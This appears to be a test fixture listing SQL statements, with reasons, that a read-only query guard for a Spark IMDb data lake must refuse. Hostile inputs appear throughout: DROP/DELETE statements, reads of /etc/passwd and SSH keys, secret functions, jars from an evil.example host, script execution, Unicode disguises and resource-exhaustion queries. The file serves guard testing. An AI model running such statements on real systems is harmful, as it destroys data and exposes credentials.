# Statements that the guard must refuse, and why.
# One entry: a line `=== category: comment => words of the reason`, then the statement up to the next such line.
# <U+XXXX> stands for that character, so that this file hides nothing itself.

=== stacked: a second statement => Only one statement
SELECT 1; DROP TABLE imdb.movies_delta
=== stacked: a harmless second statement => Only one statement
SELECT 1; SELECT 2
=== stacked: behind a line comment => Only one statement
SELECT 1; -- done
DELETE FROM imdb.movies_delta
=== stacked: after several semicolons => Only one statement
SELECT 1;; TRUNCATE TABLE imdb.ratings_delta;
=== stacked: a leading semicolon => Only one statement
; SELECT 1
=== stacked: the semicolon between nested comments => Only one statement
SELECT 1 /* a /* b */ c */ ; SET spark.sql.ansi.enabled = true
=== stacked: a string that other databases end at the escaped quote => Only one statement
SELECT '\''; DROP TABLE imdb.movies_delta; --'
=== stacked: a fullwidth semicolon => U+FF1B
SELECT 1<U+FF1B>DROP TABLE imdb.movies_delta
=== write: INSERT => starts with INSERT
INSERT INTO imdb.movies_delta SELECT * FROM imdb.movies_delta
=== write: INSERT OVERWRITE DIRECTORY writes files => starts with INSERT
INSERT OVERWRITE DIRECTORY '/tmp/out' USING parquet SELECT * FROM imdb.persons_delta
=== write: UPDATE => starts with UPDATE
UPDATE imdb.ratings_delta SET averageRating = 10
=== write: DELETE => starts with DELETE
DELETE FROM imdb.ratings_delta WHERE numVotes < 5
=== write: MERGE => starts with MERGE
MERGE INTO imdb.ratings_delta t USING imdb.ratings_delta s ON t.tconst = s.tconst WHEN MATCHED THEN DELETE
=== write: COPY INTO => starts with COPY
COPY INTO imdb.movies_delta FROM '/mnt/x' FILEFORMAT = PARQUET
=== write: LOAD DATA => starts with LOAD
LOAD DATA INPATH '/tmp/x' INTO TABLE imdb.movies_delta
=== write: TRUNCATE => starts with TRUNCATE
TRUNCATE TABLE imdb.movies_delta
=== write: CREATE TABLE AS => starts with CREATE
CREATE TABLE imdb.copy AS SELECT * FROM imdb.movies_delta
=== write: a view that outlives the session => starts with CREATE
CREATE OR REPLACE VIEW imdb.v AS SELECT 1
=== write: a temporary view => starts with CREATE
CREATE TEMP VIEW v USING csv OPTIONS (path '/etc/passwd')
=== write: CREATE FUNCTION with a jar => starts with CREATE
CREATE FUNCTION f AS 'com.evil.F' USING JAR 'https://evil.example/f.jar'
=== write: DROP => starts with DROP
DROP TABLE IF EXISTS imdb.movies_delta
=== write: ALTER => starts with ALTER
ALTER TABLE imdb.movies_delta ADD COLUMN x INT
=== write: VACUUM => starts with VACUUM
VACUUM imdb.movies_delta RETAIN 0 HOURS
=== write: OPTIMIZE => starts with OPTIMIZE
OPTIMIZE imdb.movies_delta ZORDER BY (tconst)
=== write: RESTORE => starts with RESTORE
RESTORE TABLE imdb.movies_delta TO VERSION AS OF 0
=== write: a multi-insert that begins with FROM => starts with FROM
FROM imdb.movies_delta INSERT INTO imdb.a SELECT tconst INSERT INTO imdb.b SELECT primaryTitle
=== write: WITH before INSERT => writes
WITH t AS (SELECT 1 AS a) INSERT INTO imdb.movies_delta SELECT * FROM t
=== write: WITH before DELETE => writes
WITH t AS (SELECT 1 AS a) DELETE FROM imdb.movies_delta WHERE 1 = 1
=== write: WITH before UPDATE => writes
WITH t AS (SELECT 1 AS a) UPDATE imdb.ratings_delta SET numVotes = 0
=== write: WITH before MERGE => writes
WITH t AS (SELECT 1 AS a) MERGE INTO imdb.ratings_delta r USING t ON t.a = r.numVotes WHEN MATCHED THEN DELETE
=== write: an INSERT inside a CTE => writes
WITH gone AS (INSERT INTO imdb.movies_delta SELECT 1) SELECT * FROM gone
=== write: a DELETE with RETURNING inside a CTE => writes
WITH gone AS (DELETE FROM imdb.movies_delta RETURNING *) SELECT count(*) FROM gone
=== write: an UPDATE in the second CTE => writes
WITH a AS (SELECT 1 AS n), b AS (UPDATE imdb.ratings_delta SET numVotes = 1) SELECT * FROM a
=== write: an INSERT in a derived table => writes
SELECT * FROM (INSERT INTO imdb.movies_delta VALUES (1)) AS t
=== write: a DELETE as a scalar subquery => cannot be read
SELECT (DELETE FROM imdb.movies_delta) AS n
=== write: SELECT INTO => SELECT INTO
SELECT * INTO imdb.stolen FROM imdb.movies_delta
=== write: SELECT INTO a temporary table in a UNION => SELECT INTO
SELECT tconst FROM imdb.movies_delta UNION ALL SELECT tconst INTO TEMPORARY t FROM imdb.ratings_delta
=== write: a row lock => FOR
SELECT * FROM imdb.ratings_delta FOR UPDATE
=== write: a shared lock in a subquery => FOR
SELECT * FROM (SELECT tconst FROM imdb.ratings_delta FOR SHARE) AS t
=== command: SET of a setting => starts with SET
SET spark.sql.shuffle.partitions = 1
=== command: SET without a value lists the settings => starts with SET
SET -v
=== command: SET VAR => starts with SET
SET VAR x = (SELECT 1)
=== command: RESET => starts with RESET
RESET
=== command: USE => starts with USE
USE CATALOG hive_metastore
=== command: SHOW => starts with SHOW
SHOW TABLES IN default
=== command: DESCRIBE DETAIL tells of files => starts with DESCRIBE
DESCRIBE DETAIL imdb.movies_delta
=== command: EXPLAIN => starts with EXPLAIN
EXPLAIN EXTENDED SELECT * FROM imdb.movies_delta
=== command: GRANT => starts with GRANT
GRANT SELECT ON TABLE imdb.movies_delta TO `everyone`
=== command: CALL of a procedure => starts with CALL
CALL system.expire_snapshots('imdb.movies_delta')
=== command: EXECUTE IMMEDIATE runs text => starts with EXECUTE
EXECUTE IMMEDIATE 'DROP TABLE imdb.movies_delta'
=== command: a SQL script => Only one statement
BEGIN DROP TABLE imdb.movies_delta; END
=== command: ADD JAR => starts with ADD
ADD JAR 'https://evil.example/f.jar'
=== command: CACHE TABLE => starts with CACHE
CACHE TABLE t AS SELECT * FROM imdb.movies_delta
=== command: LIST FILE => starts with LIST
LIST FILES
=== command: DECLARE VARIABLE => starts with DECLARE
DECLARE VARIABLE x INT DEFAULT 1
=== command: REFRESH by path => starts with REFRESH
REFRESH '/mnt/lake'
=== command: DFS of the Hive shell => starts with dfs
dfs -ls /
=== command: TABLE as a statement => starts with TABLE
TABLE imdb.movies_delta
=== command: TABLE inside a set operation => refused
SELECT tconst FROM imdb.ratings_delta UNION ALL TABLE secrets
=== command: a script run by TRANSFORM => cannot be read
SELECT TRANSFORM (tconst) USING 'cat /etc/passwd' AS (line) FROM imdb.movies_delta
=== command: a script run by MAP => cannot be read
SELECT MAP tconst USING 'sh evil.sh' AS a FROM imdb.movies_delta
=== command: a script run by REDUCE => starts with FROM
FROM (SELECT tconst FROM imdb.movies_delta) m SELECT REDUCE tconst USING 'python evil.py'
=== command: pipe syntax => Pipe syntax
SELECT * FROM imdb.movies_delta |> WHERE startYear > 2000
=== command: empty => empty
   
=== command: a comment alone => empty
-- SELECT 1
=== command: only a semicolon => empty
;
=== path: Parquet file => reads files directly
SELECT * FROM parquet.`/etc/x`
=== path: keyword in capitals => reads files directly
SELECT * FROM PARQUET.`s3://bucket/key`
=== path: the format in backticks => reads files directly
SELECT * FROM `parquet`.`/mnt/lake`
=== path: CSV => reads files directly
SELECT * FROM csv.`/etc/passwd`
=== path: JSON with a glob => reads files directly
SELECT * FROM json.`/var/log/*.json`
=== path: text => reads files directly
SELECT value FROM text.`/proc/self/environ`
=== path: binaryFile => reads files directly
SELECT content FROM binaryFile.`/root/.ssh/id_rsa`
=== path: delta => reads files directly
SELECT * FROM delta.`abfss://c@account.dfs.core.windows.net/t`
=== path: ORC => reads files directly
SELECT * FROM orc.`hdfs:///x`
=== path: Avro without a scheme => reads files directly
SELECT * FROM avro.`relative`
=== path: XML => reads files directly
SELECT * FROM xml.`/x.xml`
=== path: a plain word as the path => reads files directly
SELECT * FROM parquet.movies
=== path: a JDBC source => reads files directly
SELECT * FROM jdbc.`url`
=== path: a fully qualified data source => reads files directly
SELECT * FROM `org.apache.spark.sql.parquet`.`/mnt/lake`
=== path: in a subquery of WHERE => reads files directly
SELECT 1 FROM imdb.movies_delta WHERE tconst IN (SELECT value FROM text.`/etc/passwd`)
=== path: in a scalar subquery of the projection => reads files directly
SELECT (SELECT max(value) FROM text.`/etc/passwd`) AS x
=== path: on the right of a join => reads files directly
SELECT * FROM imdb.movies_delta m LEFT JOIN csv.`/tmp/y` c ON c._c0 = m.tconst
=== path: in EXISTS => reads files directly
SELECT 1 FROM imdb.movies_delta WHERE EXISTS (SELECT 1 FROM json.`/x`)
=== path: in the last branch of a set operation => reads files directly
SELECT 'a' UNION SELECT 'b' EXCEPT SELECT value FROM text.`/x`
=== path: in a HAVING subquery => reads files directly
SELECT startYear FROM imdb.movies_delta GROUP BY startYear HAVING count(*) > (SELECT count(*) FROM csv.`/x`)
=== path: in ORDER BY => reads files directly
SELECT tconst FROM imdb.movies_delta ORDER BY (SELECT count(*) FROM csv.`/x`)
=== path: in a join condition => reads files directly
SELECT * FROM imdb.movies_delta m JOIN imdb.ratings_delta r ON m.tconst = (SELECT max(_c0) FROM csv.`/x`)
=== path: in a CASE branch => reads files directly
SELECT CASE WHEN startYear > 1 THEN (SELECT 1 FROM text.`/x`) END FROM imdb.movies_delta
=== path: inside a lambda => reads files directly
SELECT filter(genres, g -> g IN (SELECT value FROM text.`/x`)) FROM imdb.movies_delta
=== path: in a window's PARTITION BY => reads files directly
SELECT rank() OVER (PARTITION BY (SELECT 1 FROM text.`/x`) ORDER BY tconst) FROM imdb.movies_delta
=== path: in an aggregate's FILTER => reads files directly
SELECT count(*) FILTER (WHERE tconst IN (SELECT value FROM text.`/x`)) FROM imdb.movies_delta
=== path: in a named window => reads files directly
SELECT rank() OVER w FROM imdb.movies_delta WINDOW w AS (ORDER BY (SELECT 1 FROM text.`/x`))
=== path: in QUALIFY => reads files directly
SELECT tconst FROM imdb.movies_delta QUALIFY rank() OVER (ORDER BY tconst) < (SELECT count(*) FROM text.`/x`)
=== path: in VALUES => reads files directly
VALUES ((SELECT max(value) FROM text.`/x`))
=== path: in the argument of explode => reads files directly
SELECT * FROM explode((SELECT collect_list(value) FROM text.`/x`))
=== path: in LATERAL VIEW's argument => reads files directly
SELECT x FROM imdb.movies_delta LATERAL VIEW explode((SELECT collect_list(value) FROM text.`/x`)) t AS x
=== path: in a LATERAL subquery => reads files directly
SELECT * FROM imdb.movies_delta m, LATERAL (SELECT value FROM text.`/x`) AS t
=== path: in a PIVOT's input => reads files directly
SELECT * FROM text.`/x` PIVOT (count(*) FOR value IN ('a'))
=== path: in nested joins => reads files directly
SELECT * FROM (imdb.movies_delta m JOIN (imdb.ratings_delta r JOIN csv.`/x` c ON true) ON true)
=== path: in the fields of a struct => reads files directly
SELECT struct((SELECT 1 FROM text.`/x`) AS a)
=== path: in a map key => reads files directly
SELECT map('a', 1)[(SELECT value FROM text.`/x`)]
=== path: in BETWEEN => reads files directly
SELECT 1 FROM imdb.movies_delta WHERE startYear BETWEEN 1 AND (SELECT count(*) FROM text.`/x`)
=== path: in an interval => reads files directly
SELECT INTERVAL (SELECT 1 FROM text.`/x`) DAY
=== path: in a window frame => reads files directly
SELECT sum(1) OVER (ORDER BY tconst ROWS (SELECT 1 FROM text.`/x`) PRECEDING) FROM imdb.movies_delta
=== path: a CTE called like the format opens no path => reads files directly
WITH parquet AS (SELECT 1 AS a) SELECT * FROM parquet.`/etc/x`
=== path: a URI without quotes => : at
SELECT * FROM s3://bucket/key
=== path: a path as a string => in string quotes
SELECT * FROM '/etc/passwd'
=== path: a path in double quotes => in string quotes
SELECT * FROM "file.parquet"
=== table: unknown, with the nearest => nearest: imdb.movies_delta
SELECT * FROM imdb.movie_delta
=== table: another schema => not a table of this lake
SELECT * FROM default.movies_delta
=== table: another catalog => not a table of this lake
SELECT * FROM hive_metastore.imdb.movies_delta
=== table: information_schema => not a table of this lake
SELECT * FROM information_schema.tables
=== table: system tables => not a table of this lake
SELECT * FROM system.access.audit
=== table: global temporary views => not a table of this lake
SELECT * FROM global_temp.v
=== table: a table's history => not a table of this lake
SELECT * FROM imdb.movies_delta.history
=== table: a field of the first table as a table => not a table of this lake
SELECT * FROM imdb.movies_delta m, m.genres
=== table: an earlier version => cannot be read
SELECT * FROM imdb.movies_delta VERSION AS OF 1
=== table: an earlier time => cannot be read
SELECT * FROM imdb.movies_delta TIMESTAMP AS OF '2020-01-01'
=== table: an earlier version by @ => @ at
SELECT * FROM imdb.movies_delta@v1
=== table: Oracle's dual => not a table of this lake
SELECT 1 FROM dual
=== table: a homoglyph (Cyrillic o) => U+043E
SELECT * FROM imdb.m<U+043E>vies_delta
=== table: a homoglyph in backticks => not a table of this lake
SELECT * FROM imdb.`m<U+043E>vies_delta`
=== table: a schema of which the catalog has a view => not a table of this lake
SELECT * FROM movies_with_ratings.imdb
=== table: dots that move between parts => not a table of this lake
SELECT * FROM `imdb.movies`.`_delta`
=== scope: a CTE of a subquery is unknown outside => not a table of this lake
SELECT * FROM (WITH s AS (SELECT 1 AS a) SELECT * FROM s) x JOIN s ON x.a = s.a
=== scope: a CTE of a sibling is unknown => not a table of this lake
SELECT * FROM (WITH s AS (SELECT 1 AS a) SELECT * FROM s) x, (SELECT * FROM s) y
=== scope: a CTE does not see itself => not a table of this lake
WITH s AS (SELECT * FROM s) SELECT * FROM s
=== scope: a CTE does not see the next one => not a table of this lake
WITH a AS (SELECT * FROM b), b AS (SELECT 1 AS n) SELECT * FROM a
=== scope: a CTE in one branch of a UNION is unknown in the other => not a table of this lake
(WITH s AS (SELECT 1 AS a) SELECT a FROM s) UNION ALL SELECT a FROM s
=== scope: a CTE of a WHERE subquery is unknown in FROM => not a table of this lake
SELECT * FROM s WHERE 1 IN (WITH s AS (SELECT 1 AS a) SELECT a FROM s)
=== scope: a CTE with a schema in front => not a table of this lake
WITH s AS (SELECT 1 AS a) SELECT * FROM imdb.s
=== scope: a CTE over a foreign table => not a table of this lake
WITH movies_delta AS (SELECT * FROM secrets.keys) SELECT * FROM movies_delta
=== scope: one name twice => second WITH name
WITH a AS (SELECT 1 AS n), A AS (SELECT 2 AS n) SELECT * FROM a
=== scope: a CTE called like a path => WITH name
WITH `/etc/passwd` AS (SELECT 1 AS a) SELECT * FROM `/etc/passwd`
=== scope: a CTE called like a table with its schema => WITH name
WITH `secrets.keys` AS (SELECT 1 AS a) SELECT * FROM `secrets.keys`
=== scope: an unknown name beside a known CTE => secret_keys (line
WITH a AS (SELECT 1 AS n) SELECT * FROM secret_keys
=== scope: a CTE as a schema => a.n (line
WITH a AS (SELECT 1 AS n) SELECT * FROM a.n
=== scope: an inner CTE is gone after its subquery, an outer one is not => inner_one (line
WITH outer_one AS (SELECT 1 AS n) SELECT * FROM (WITH inner_one AS (SELECT n FROM outer_one) SELECT n FROM inner_one) x, outer_one, inner_one
=== scope: recursion => WITH RECURSIVE
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT * FROM r
=== scope: an alias is no table => not a table of this lake
SELECT * FROM imdb.movies_delta m WHERE EXISTS (SELECT 1 FROM m)
=== function: files in FROM => Named arguments
SELECT * FROM read_files('/etc/passwd', format => 'text')
=== function: files in FROM, by position => table function read_files
SELECT * FROM read_files('/etc/passwd')
=== function: streams of files => table function cloud_files
SELECT * FROM cloud_files('/mnt', 'json')
=== function: Kafka => table function read_kafka
SELECT * FROM read_kafka('host', 'topic')
=== function: other databases => table function remote_query
SELECT * FROM remote_query('conn', 'SELECT 1')
=== function: the log of a table => table function table_changes
SELECT * FROM table_changes('imdb.movies_delta', 0)
=== function: settings => table function spark_conf
SELECT * FROM spark_conf()
=== function: a list of secrets => table function list_secrets
SELECT * FROM list_secrets()
=== function: a secret => function secret
SELECT secret('scope', 'key')
=== function: a secret, trying => function try_secret
SELECT try_secret('scope', 'key')
=== function: HTTP => function http_request
SELECT http_request(conn, 'GET', '/')
=== function: a model call per row => function ai_query
SELECT ai_query('model', primaryTitle) FROM imdb.movies_delta
=== function: the lake's own expensive function => function ai_movie_summary
SELECT ai_movie_summary(primaryTitle) FROM imdb.movies_delta
=== function: Java by reflection => function java_method
SELECT java_method('java.lang.System', 'getenv', 'PATH')
=== function: reflection in an argument => function reflect
SELECT upper(reflect('java.lang.System', 'getProperty', 'user.home'))
=== function: reflection in capitals and backticks => function reflect
SELECT `REFLECT`('java.lang.Runtime', 'getRuntime')
=== function: the name of the file => function input_file_name
SELECT input_file_name() FROM imdb.movies_delta
=== function: who asks => function current_user
SELECT current_user()
=== function: who asks, without parentheses => current_user
SELECT current_user
=== function: who asks, as a quoted column => tells of files or of the session
SELECT `session_user` FROM imdb.movies_delta
=== function: the catalog's name => function current_catalog
SELECT current_catalog()
=== function: file metadata as a hidden column => tells of files or of the session
SELECT _metadata.file_path FROM imdb.movies_delta
=== function: file metadata behind an alias => tells of files or of the session
SELECT m.`_METADATA`.file_name FROM imdb.movies_delta m
=== function: a function of another schema => function system.builtin.reflect
SELECT system.builtin.reflect('a', 'b')
=== function: an unknown function, with the nearest => nearest: upper
SELECT uper(primaryTitle) FROM imdb.movies_delta
=== function: in ORDER BY => function java_method
SELECT tconst FROM imdb.movies_delta ORDER BY java_method('a', 'b')
=== function: in GROUP BY => function secret
SELECT count(*) FROM imdb.movies_delta GROUP BY secret('a', 'b')
=== function: as a window's order => function reflect
SELECT rank() OVER (ORDER BY reflect('a', 'b')) FROM imdb.movies_delta
=== function: in a join condition => function secret
SELECT * FROM imdb.movies_delta m JOIN imdb.ratings_delta r ON secret('a', 'b') = r.tconst
=== function: in LATERAL VIEW => table function read_files
SELECT * FROM imdb.movies_delta LATERAL VIEW read_files('/x') t AS a
=== function: a generator of the lake => table function imdb.title_case
SELECT * FROM imdb.title_case('x')
=== function: a sleeping or failing call => function raise_error
SELECT raise_error('x') FROM imdb.movies_delta
=== function: inside a lambda => function reflect
SELECT transform(genres, g -> reflect('a', g)) FROM imdb.movies_delta
=== function: inside a pivot => function secret
SELECT * FROM imdb.movies_delta PIVOT (max(secret('a', 'b')) FOR titleType IN ('movie'))
=== function: TABLE(...) around a function => refused
SELECT * FROM TABLE(read_files('/x'))
=== name: IDENTIFIER as a table => identifier
SELECT * FROM IDENTIFIER('secrets.keys')
=== name: IDENTIFIER as a column => function identifier
SELECT IDENTIFIER('a' || 'b') FROM imdb.movies_delta
=== name: IDENTIFIER as a function => cannot be read
SELECT IDENTIFIER('reflect')('a', 'b')
=== parameter: a named one => Parameters
SELECT * FROM imdb.movies_delta WHERE tconst = :id
=== parameter: a positional one => Parameters
SELECT * FROM imdb.movies_delta WHERE tconst = ?
=== parameter: an environment variable => Variables
SELECT ${env:HOME}
=== parameter: a widget => Variables
SELECT * FROM imdb.movies_delta WHERE startYear = $year
=== parameter: a substitution inside a name => U+0024
SELECT 1 AS `${system:user.dir}`
=== parameter: a server variable of another database => @ at
SELECT @@version
=== parameter: an ODBC escape => Braces
SELECT {fn database()}
=== parameter: a template of an editor => Braces
SELECT {{ secret }}
=== parameter: a named argument => Named arguments
SELECT lower(str => 'X')
=== harm: a range of a billion => range asks
SELECT count(*) FROM range(1000000000)
=== harm: a range by arithmetic => range asks
SELECT count(*) FROM range(0, 1000 * 1000 * 1000)
=== harm: a range with a tiny step => range asks
SELECT count(*) FROM range(0, 1000000, 0)
=== harm: a range of unknown size => range needs whole numbers
SELECT * FROM range((SELECT max(numVotes) FROM imdb.ratings_delta))
=== harm: a long sequence => sequence asks
SELECT explode(sequence(1, 1000000000000))
=== harm: a long string => repeat asks
SELECT repeat('x', 1000000000)
=== harm: a long string by power => repeat asks
SELECT repeat('x', pow(10, 9))
=== harm: a long string by a cast => repeat asks
SELECT repeat('x', CAST('1e9' AS INT))
=== harm: repeats of repeats => repeat of another
SELECT repeat(repeat(repeat('x', 1000), 1000), 1000)
=== harm: spaces => space asks
SELECT space(2000000000)
=== harm: padding => lpad asks
SELECT lpad('x', 2000000000, 'y')
=== harm: an array => array_repeat asks
SELECT array_repeat('x', 2000000000)
=== harm: a cross join of two tables by comma => without a condition
SELECT count(*) FROM imdb.movies_delta, imdb.principals_delta
=== harm: a cross join by name => without a condition
SELECT count(*) FROM imdb.movies_delta CROSS JOIN imdb.persons_delta
=== harm: a join on a constant => without a condition
SELECT count(*) FROM imdb.movies_delta m JOIN imdb.principals_delta p ON 1 = 1
=== harm: a join on TRUE => without a condition
SELECT count(*) FROM imdb.movies_delta m LEFT JOIN imdb.principals_delta p ON true
=== limit: not a number => write LIMIT with a whole number
SELECT tconst FROM imdb.movies_delta LIMIT 5 + 5
=== limit: a subquery => write LIMIT with a whole number
SELECT tconst FROM imdb.movies_delta LIMIT (SELECT max(numVotes) FROM imdb.ratings_delta)
=== limit: negative => write LIMIT with a whole number
SELECT tconst FROM imdb.movies_delta LIMIT -1
=== limit: a fraction => write LIMIT with a whole number
SELECT tconst FROM imdb.movies_delta LIMIT 1e9
=== limit: a call in a subquery's limit => write LIMIT with a whole number
SELECT * FROM (SELECT tconst FROM imdb.movies_delta LIMIT secret('a', 'b')) AS t
=== limit: an offset that is no number => write OFFSET with a whole number
SELECT tconst FROM imdb.movies_delta LIMIT 5 OFFSET (SELECT 1)
=== limit: MySQL's order => cannot be read
SELECT tconst FROM imdb.movies_delta LIMIT 5, 10
=== limit: FETCH FIRST => write LIMIT
SELECT tconst FROM imdb.movies_delta FETCH FIRST 5 ROWS ONLY
=== limit: TOP => TOP
SELECT TOP 5 tconst FROM imdb.movies_delta
=== unicode: fullwidth keyword => U+FF33
<U+FF33>ELECT 1
=== unicode: zero-width space in a name => U+200B
SELECT * FROM imdb.movies<U+200B>_delta
=== unicode: zero-width space in a quoted name => U+200B
SELECT * FROM imdb.`movies<U+200B>_delta`
=== unicode: a comment turned round for the reader => U+202E
SELECT 1 <U+202E> FROM imdb.movies_delta
=== unicode: right-to-left mark in an alias => U+200F
SELECT 1 AS `a<U+200F>b`
=== unicode: no-break space as a blank => U+00A0
SELECT<U+00A0>1
=== unicode: line separator as a line's end => U+2028
SELECT 1 --<U+2028>
+<U+2028>1
=== unicode: byte order mark => U+FEFF
<U+FEFF>SELECT 1
=== unicode: NUL => U+0000
SELECT 1<U+0000>
=== unicode: a control character between words => U+0008
SELECT<U+0008>1
=== unicode: smart quotes => U+2018
SELECT <U+2018>a<U+2019>
=== unicode: a long dash that looks like a comment => U+2014
SELECT 1 <U+2014> 2
=== unicode: an unquoted name with letters that Spark lower-cases its own way => U+0130
SELECT 1 AS <U+0130>d
=== unicode: an escape for half a character => no character
SELECT '\uD83D'
=== text: a string without end => never closed
SELECT 'abc
=== text: a string whose end is escaped => never closed
SELECT 'abc\'
=== text: a comment without end => never closed
SELECT 1 /* DROP TABLE
=== text: a nested comment closed once => never closed
SELECT 1 /* /* */
=== text: a quoted name without end => never closed
SELECT `abc
=== text: a backtick inside a name => backtick
SELECT 1 AS `a``b`
=== text: a string as an alias => in backticks
SELECT primaryTitle AS "Film" FROM imdb.movies_delta
=== text: dollar quotes => Variables
SELECT $$DROP TABLE x$$
=== text: another database's comment => # at
SELECT 1 # comment
=== text: another database's string prefix => no string prefix
SELECT N'abc'
=== text: a broken hexadecimal literal => hexadecimal
SELECT X'1FG'
=== text: a backslash outside strings => is not Spark SQL
SELECT 1 \ 2
=== text: a number that Spark reads as 1.0 AS primaryName => ends in a dot
SELECT 1. primaryName FROM imdb.movie_cast
=== text: garbage => starts with
garbage in, garbage out
=== text: two words too many => cannot be read
SELECT primaryTitle FROM imdb.movies_delta m n o
=== other: an array literal of another database => write array
SELECT ARRAY[1, 2]
=== other: a time zone operator => convert_timezone
SELECT now() AT TIME ZONE 'UTC'
=== other: a type of another database => not a type
SELECT CAST(startYear AS SIGNED) FROM imdb.movies_delta
=== other: a quantified comparison => IN (SELECT
SELECT * FROM imdb.ratings_delta WHERE numVotes >= ALL (SELECT numVotes FROM imdb.ratings_delta)
=== other: SIMILAR TO => RLIKE
SELECT * FROM imdb.movies_delta WHERE primaryTitle SIMILAR TO '%x%'
=== other: DISTINCT ON => row_number
SELECT DISTINCT ON (startYear) primaryTitle FROM imdb.movies_delta
=== other: SORT BY gives no order => ORDER BY
SELECT tconst FROM imdb.movies_delta SORT BY tconst
=== other: UNNEST => explode
SELECT * FROM UNNEST(array(1, 2)) AS t
=== other: a table's index hint => addition to a table's name
SELECT * FROM imdb.movies_delta WITH (NOLOCK)
=== other: a unit that Spark has not => unit of time
SELECT datediff(FORTNIGHT, current_date(), current_date())
=== size: a WHERE that is true of everything is no condition of a join => without a condition
SELECT count(*) FROM imdb.movies_delta a CROSS JOIN imdb.ratings_delta b WHERE true
=== size: a WHERE of constants is no condition of a join => without a condition
SELECT count(*) FROM imdb.movies_delta a, imdb.ratings_delta b WHERE 1 = 1 AND NOT false
=== size: a join in parentheses without a condition => without a condition
SELECT count(*) FROM (imdb.movies_delta a CROSS JOIN imdb.ratings_delta b)
=== size: a column compared with itself is no condition of a join => without a condition
SELECT count(*) FROM imdb.movies_delta a JOIN imdb.ratings_delta b ON a.tconst = a.tconst
=== size: one side of an OR that is always true => without a condition
SELECT count(*) FROM imdb.movies_delta a JOIN imdb.ratings_delta b ON a.tconst = b.tconst OR 1 = 1
=== size: a size cast by a function => more than
SELECT repeat(primaryTitle, int('2000000000')) FROM imdb.movies_delta
=== size: a width of a format => width
SELECT printf('%2000000000d', startYear) FROM imdb.movies_delta
=== size: a long text replaced by long texts => more than
SELECT replace(repeat(primaryTitle, 100000), 'a', repeat('a', 100000)) FROM imdb.movies_delta
=== size: a long list joined by long texts => more than
SELECT array_join(array_repeat(primaryTitle, 1000000), repeat('a', 100000)) FROM imdb.movies_delta
=== size: a long list of long texts => more than
SELECT transform(sequence(1, 1000000), x -> repeat(primaryTitle, 100000)) FROM imdb.movies_delta
